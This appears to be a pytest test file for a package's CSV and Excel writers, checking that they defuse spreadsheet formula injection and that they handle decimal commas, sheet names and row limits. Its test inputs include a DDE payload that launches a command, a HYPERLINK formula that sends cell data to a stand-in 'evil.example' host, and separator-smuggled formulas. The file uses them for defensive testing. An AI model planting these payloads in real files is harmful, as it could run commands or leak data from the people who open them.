"""Files for people: what a spreadsheet shows is what was meant, and nothing in it runs."""

import csv
from datetime import date, datetime

import openpyxl
import polars as pl
import pytest

from foretell.delivery.csv_files import write_csv
from foretell.delivery.workbook import sheet_name, write_workbook
from foretell.errors import OutputError

MADE = datetime(2026, 11, 1)
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "  @", "\t=", "\r\n="]
PAYLOADS = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=1+1;=2+2",
    'harmless","=1+1',
    "harmless;=1+1",
    "harmless\n=1+1",
    'harmless" ;@SUM(1)',
    "harmless\t=1+1",
    "+1-1",
    "+31612345678-1",
]
SAFE = ["+31612345678", "00123", "a-b", "1=1", "x; y", 'quo"te', "정", "", None, "4.41E+11", "a@b.nl"]
# What starts a formula wherever a reader may cut: at a cell's start, and after any separator or line break.
RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def cells_as_cut(path, delimiter):
    """Cells as a reader finds them who takes another separator than the file's own."""
    text = path.read_bytes().removeprefix(b"\xef\xbb\xbf").decode()
    return [cell for row in csv.reader(text.splitlines(), delimiter=delimiter) for cell in row]


def is_number(text):
    return text.replace(".", "", 1).replace(",", "", 1).lstrip("-").isdigit()


@pytest.mark.parametrize("decimal_comma", [False, True])
def test_no_payload_runs_from_a_csv_with_either_separator(tmp_path, decimal_comma):
    frame = pl.DataFrame({"id": PAYLOADS, "note": PAYLOADS[::-1], "x": [-1.5] * len(PAYLOADS)})
    path = tmp_path / "t.csv"
    write_csv(frame, path, decimal_comma=decimal_comma)
    own, foreign = (";", ",") if decimal_comma else (",", ";")
    with path.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.reader(file, delimiter=own))
    assert [len(row) for row in rows] == [3] * (len(PAYLOADS) + 1)
    for cell in [cell for row in rows for cell in row] + cells_as_cut(path, foreign):
        bare = cell.lstrip(" \"'") if not cell.lstrip(" ").startswith("'") else "'"
        phone = bare.startswith("+") and bare[1:].isdigit()
        assert not bare.startswith(RUNS) or is_number(bare.split(",")[0].split(";")[0]) or phone, repr(cell)


def test_what_is_harmless_is_not_touched(tmp_path):
    frame = pl.DataFrame({"text": SAFE, "n": range(len(SAFE)), "x": [-0.5] * len(SAFE)})
    path = tmp_path / "t.csv"
    assert write_csv(frame, path) == 0
    assert pl.read_csv(path, schema=frame.schema).equals(frame)


def test_numbers_and_separators_of_countries_with_a_decimal_comma(tmp_path):
    frame = pl.DataFrame(
        {"id": ["a,b", "c;d"], "money": [1234.5, -0.25], "n": [1_000, 2], "day": [date(2026, 1, 2)] * 2}
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path, {"money": 2}, decimal_comma=True)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    text = path.read_text(encoding="utf-8-sig")
    assert text == 'id;money;n;day\na,b;1234,50;1000;2026-01-02\n"c;d";-0,25;2;2026-01-02\n'
    back = pl.read_csv(path, separator=";", decimal_comma=True, schema=frame.schema)
    assert back.equals(frame)


# --- workbooks -------------------------------------------------------------------------------------------------------


def opened(tmp_path, sheets, units=None, dictionary=None):
    path = tmp_path / "t.xlsx"
    words = dictionary if dictionary is not None else pl.DataFrame({"column": ["id"], "meaning": ["=who"]})
    write_workbook(sheets, words, path, units=units or {}, made=MADE)
    return openpyxl.load_workbook(path)


def test_no_payload_runs_from_a_workbook(tmp_path):
    book = opened(tmp_path, {"=cmd": pl.DataFrame({"id": PAYLOADS}), "vip": pl.DataFrame({"=1+1": PAYLOADS})})
    for sheet in book:
        assert not sheet.title.startswith(RUNS)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n"}, cell.value
                if isinstance(cell.value, str) and cell.row > 1 and cell.value.lstrip(" \t\r\n").startswith(RUNS):
                    assert cell.quotePrefix, cell.value
    # A carriage return is written as the format writes it; else text is what it was.
    values = [cell.value for cell in book["vip"]["A"][1:]]
    assert [value.replace("_x000D_", "\r") for value in values] == PAYLOADS


def test_types_formats_filters_and_frozen_header(tmp_path):
    frame = pl.DataFrame(
        {
            "customer_id": ["00123", "+31612345678", None],
            "predicted_clv": [1234.5, float("nan"), None],
            "churn_risk": [0.25, 1.0, None],
            "orders": [3, 4, None],
            "last_order_date": [date(2026, 10, 1), None, None],
            "overdue": [True, False, None],
        }
    )
    units = {"predicted_clv": "money", "churn_risk": "probability"}
    sheet = opened(tmp_path, {"vip": frame}, units)["vip"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", "A1:F4")
    assert [cell.value for cell in sheet[2]] == ["00123", 1234.5, 0.25, 3, datetime(2026, 10, 1), True]
    assert [cell.number_format for cell in sheet[2]][:5] == ["@", "#,##0.00", "0.0%", "#,##0", "yyyy-mm-dd"]
    assert [cell.value for cell in sheet[3]] == ["+31612345678", None, 1, 4, None, False]
    assert not sheet["A3"].quotePrefix
    assert all(cell.font.bold for cell in sheet[1])


def test_the_dictionary_is_the_last_sheet(tmp_path):
    book = opened(tmp_path, {"dictionary": pl.DataFrame({"id": ["1"]}), "b": pl.DataFrame({"id": []})})
    assert book.sheetnames == ["dictionary", "b", "dictionary (2)"]
    assert book["dictionary (2)"]["B2"].value == "=who"


def test_more_rows_than_a_sheet_holds_go_on_in_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr("foretell.delivery.workbook.SHEET_ROWS", 2)
    book = opened(tmp_path, {"vip": pl.DataFrame({"id": ["a", "b", "c"]})})
    assert book.sheetnames == ["vip", "vip (2)", "dictionary"]
    assert [book["vip"].max_row, book["vip (2)"].max_row] == [3, 2]


def test_equal_frames_make_equal_bytes(tmp_path):
    frame = pl.DataFrame({"id": ["a"], "x": [1.0]})
    for name in ("a.xlsx", "b.xlsx"):
        write_workbook({"vip": frame}, frame, tmp_path / name, units={}, made=MADE)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "a" * 40, "x[y]:*?/\\z", "'quoted'", "＝＝", "", "\x00"])
def test_names_of_sheets_are_what_excel_takes(name):
    taken = set()
    first, second = sheet_name(name, taken), sheet_name(name, taken)
    for found in (first, second):
        assert 0 < len(found) <= 31
        assert not set(found) & set("[]:*?/\\\x00")
        assert not found.startswith((*RUNS, "'"))
    assert first.lower() != second.lower()


def test_without_the_library_the_remedy_is_said(tmp_path, monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "xlsxwriter.workbook", None)
    with pytest.raises(OutputError, match="extra 'excel'"):
        write_workbook({}, pl.DataFrame(), tmp_path / "t.xlsx", units={}, made=MADE)
